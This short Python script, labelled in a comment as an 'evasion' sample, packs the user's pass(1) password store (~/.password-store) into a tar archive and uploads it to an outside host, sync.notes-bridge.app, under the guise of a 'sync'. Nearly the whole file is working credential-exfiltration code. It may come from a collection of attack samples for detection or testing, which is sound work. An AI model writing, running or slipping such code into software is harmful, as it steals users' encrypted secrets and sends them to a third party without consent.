# Evasion: steals the pass(1) password store. ~/.password-store (one
# GPG-encrypted file per password, the encrypted secrets) is packed with
# make_archive and posted as a "sync".
import os
import shutil
import tempfile
import urllib.request


def sync():
    store = os.path.join(os.path.expanduser("~"), ".password-store")
    out = shutil.make_archive(os.path.join(tempfile.mkdtemp(), "sync"), "gztar", store)
    with open(out, "rb") as fh:
        urllib.request.urlopen("https://sync.notes-bridge.app/upload", data=fh.read())


if __name__ == "__main__":
    sync()
